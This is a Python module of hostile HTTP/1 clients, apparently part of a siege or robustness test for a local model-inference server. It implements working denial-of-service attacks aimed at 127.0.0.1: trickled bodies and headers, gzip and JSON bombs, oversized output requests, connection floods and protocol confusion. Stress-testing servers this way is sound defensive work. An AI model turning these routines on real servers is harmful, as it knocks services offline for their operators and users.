"""Hostile clients of HTTP/1."""

from __future__ import annotations

import contextlib
import functools
import http.client
import itertools
import json
import random
import socket
import zlib

from tools.bench.http2_client import PREFACE

from .attack import ATTEMPT_TIMEOUT_S, Target, connect, reset

MIB = 1 << 20
CLAIMS = [200 * MIB, 60 * MIB, 5 * MIB, MIB // 2]
SMALLEST_CLAIM = MIB // 8
BOMB_BYTES = 60 * MIB
CONNECTIONS = 5000
# Issues speak of a byte every 20 s; one a second is the same attack on a siege of seconds.
TRICKLE_S = 1.0

_numbers = itertools.count()


def head(path: str, length: int, *more: str) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: siege", f"Content-Length: {length}", *more]
    return "\r\n".join([*lines, "\r\n"]).encode()


def infer(model: str) -> str:
    return f"/v2/models/{model}/infer"


def asking(count: int, binary: bool = False, **output: object) -> bytes:
    """The body that asks `floats` or `strings` for as many values."""
    document = {
        "inputs": [{"name": "COUNT", "datatype": "INT32", "shape": [1], "data": [count]}],
        "outputs": [{"name": "OUTPUT0", "parameters": {"binary_data": binary, **output}}],
    }
    return json.dumps(document).encode()


def claims_and_never_sends(target: Target) -> None:
    """The head and the first byte of a large body, and then nothing."""
    with _claimed(target) as connection:
        connection.sendall(b"{")
        _wait_for_the_end(target, connection)


def trickles(target: Target) -> None:
    """A large body that comes byte by byte, at the pace that a stall watch lets pass."""
    with _claimed(target) as connection:
        while not target.stop.wait(TRICKLE_S):
            connection.sendall(b"{")


def _claimed(target: Target) -> socket.socket:
    """A connection whose head has claimed as much as the server grants: what is refused is claimed by half."""
    length = random.choice(CLAIMS)
    while length >= SMALLEST_CLAIM:
        connection = target.http()
        more = ("Expect: 100-continue", "Inference-Header-Content-Length: 100")
        connection.sendall(head(infer("echo"), length, *more))
        if connection.recv(12) == b"HTTP/1.1 100":
            target.tally["claimed MiB"] += length // MIB
            return connection
        connection.close()
        length //= 2
    raise EOFError


def trickles_heads(target: Target) -> None:
    with target.http() as connection:
        connection.sendall(b"POST /v2/models/echo/infer HTTP/1.1\r\n")
        while not target.stop.wait(TRICKLE_S):
            connection.sendall(b"X-More: a\r\n")


def never_reads(target: Target) -> None:
    """Asks for megabytes and leaves them in the server, but for the status, which tells whether it has them."""
    with socket.socket() as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        connection.settimeout(ATTEMPT_TIMEOUT_S)
        connection.connect(("127.0.0.1", target.http_port))
        body = asking(random.choice([2_000_000, 500_000]), binary=True)
        connection.sendall(head(infer("floats"), len(body)) + body)
        if connection.recv(12) != b"HTTP/1.1 200":
            return
        target.tally["answers unread"] += 1
        # Until the server has had enough of it, which writing to it tells.
        connection.setblocking(False)
        while not target.stop.wait(TRICKLE_S):
            with contextlib.suppress(BlockingIOError):
                connection.send(b"\r\n")
        reset(connection)


def never_reads_a_pipeline(target: Target) -> None:
    """Asks for metadata as fast as it can, and reads none."""
    with target.http() as connection:
        connection.settimeout(TRICKLE_S)
        with contextlib.suppress(TimeoutError):
            while not target.stop.is_set():
                connection.sendall(b"GET /v2/models/echo/config HTTP/1.1\r\nHost: siege\r\n\r\n" * 100)
        target.stop.wait(5)


_NUMBERS_INPUT = b'"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1,2],"data":[1,2]}]}'


def sends_gzip_bombs(target: Target) -> None:
    """58 KB that become 60 MB, for a model that is busy."""
    _bomb(target, "slow")


def sends_long_ids(target: Target) -> None:
    """The same for an idle model, every time with other parameters: who remembers requests remembers them all."""
    _bomb(target, "echo")


def _bomb(target: Target, model: str) -> None:
    beginning, packer = long_id()
    packer = packer.copy()
    rest = b'","parameters":{"p":%d},' % next(_numbers) + _NUMBERS_INPUT
    body = beginning + packer.compress(rest) + packer.flush()
    _exchange(target, infer(model), body, {"Content-Encoding": "gzip"})


@functools.cache
def long_id() -> tuple[bytes, zlib._Compress]:
    """The id, compressed, and what goes on behind it: each request differs, and nearly all of its work is done."""
    packer = zlib.compressobj(9, wbits=16 + zlib.MAX_WBITS)
    return packer.compress(b'{"id":"' + b"a" * BOMB_BYTES), packer


def sends_json_bombs(target: Target) -> None:
    """Documents that cost more than their bytes."""
    _exchange(target, infer("echo"), random.choice(json_bombs()), {})


@functools.cache
def json_bombs() -> list[bytes]:
    return [
        b"[" * 2_000_000,
        b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[1,2],"data":' + b"[" * 500_000,
        b'{"inputs":[' + b",".join([b"{}"] * 2_000_000) + b"]}",
        b'{"inputs":[{"name":"INPUT0","datatype":"FP32","shape":[' + b"1," * 4_000_000 + b'1],"data":[1]}]}',
        b'{"parameters":{' + b",".join(b'"%d":1' % n for n in range(500_000)) + b"}," + _NUMBERS_INPUT,
        b'{"id":' + b"9" * 4_000_000 + b"," + _NUMBERS_INPUT,
    ]


def asks_for_classes(target: Target) -> None:
    """A million classes of a million floats."""
    _exchange(target, infer("floats"), asking(1_000_000, classification=1_000_000), {})


def asks_for_floats(target: Target) -> None:
    """16 million floats as JSON."""
    _exchange(target, infer("floats"), asking(16_000_000), {})


def asks_for_compression(target: Target) -> None:
    _exchange(target, infer("floats"), asking(4_000_000, binary=True), {"Accept-Encoding": "gzip"})


def asks_for_strings(target: Target) -> None:
    """Four million strings as JSON."""
    _exchange(target, infer("strings"), asking(4_000_000), {})


def opens_connections(target: Target) -> None:
    """Thousands of connections that say nothing, or half a head."""
    held: list[socket.socket] = []
    try:
        while len(held) < CONNECTIONS and not target.stop.is_set():
            held.append(connect(target.grpc_port if len(held) % 4 == 3 else target.http_port))
            if len(held) % 4 == 1:
                held[-1].sendall(b"GET /v2/health/live HT")
            target.tally["connections"] += 1
    except OSError as error:
        target.tally[f"connections: {error.strerror or error}"] += 1
    target.stop.wait(10)
    for connection in held:
        connection.close()


def speaks_http2_to_http(target: Target) -> None:
    """A gRPC client on the wrong port."""
    with target.http() as connection:
        connection.sendall(PREFACE + b"\0\0\0\4\0\0\0\0\0")
        connection.settimeout(0.5)
        while connection.recv(1 << 16):
            pass


def speaks_http_to_grpc(target: Target) -> None:
    with target.grpc() as connection:
        connection.sendall(head("/v2/models/echo/infer", 10_000_000))
        while connection.recv(1 << 16):
            pass


def _wait_for_the_end(target: Target, connection: socket.socket) -> None:
    connection.settimeout(TRICKLE_S)
    while not target.stop.is_set():
        with contextlib.suppress(TimeoutError):
            if not connection.recv(1 << 16):
                return


def _exchange(target: Target, path: str, body: bytes, headers: dict[str, str]) -> None:
    """Asks, and reads the answer away; counts its status."""
    connection = http.client.HTTPConnection("127.0.0.1", target.http_port, timeout=ATTEMPT_TIMEOUT_S)
    try:
        connection.request("POST", path, body, headers)
        response = connection.getresponse()
        target.tally[f"status {response.status}"] += 1
        while response.read(1 << 20):
            pass
    except http.client.HTTPException as error:
        raise EOFError from error
    finally:
        connection.close()
